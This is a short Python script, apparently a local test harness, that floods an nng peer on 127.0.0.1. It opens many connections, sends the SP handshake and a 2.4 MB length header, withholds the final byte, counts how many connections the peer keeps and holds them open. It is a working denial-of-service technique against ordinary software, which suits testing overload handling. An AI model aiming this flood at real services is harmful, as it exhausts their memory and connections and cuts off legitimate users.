"""Connections that send all but the last byte of a large message: overload_flood.py PORT COUNT. Says how many the peer keeps,
then holds them until it is ended."""

import socket
import sys
import time

HANDSHAKE = b"\0SP\0\0\x30\0\0"  # nng: of a REQ peer
LENGTH = 2_400_000
CHUNK = b"x" * 65536


def flood(port):
    peer = socket.create_connection(("127.0.0.1", port), timeout=20)
    peer.sendall(HANDSHAKE)
    peer.recv(8)
    peer.sendall(LENGTH.to_bytes(8, "big"))
    left = LENGTH - 1
    try:
        while left > 0:
            left -= peer.send(CHUNK[:left])
    except OSError:
        return None
    return peer


def is_open(peer):
    peer.settimeout(0.2)
    try:
        return peer.recv(1) != b""
    except TimeoutError:
        return True
    except OSError:
        return False


peers = [peer for peer in (flood(int(sys.argv[1])) for _ in range(int(sys.argv[2]))) if peer]
peers = [peer for peer in peers if is_open(peer)]
print("open", len(peers), flush=True)
time.sleep(600)
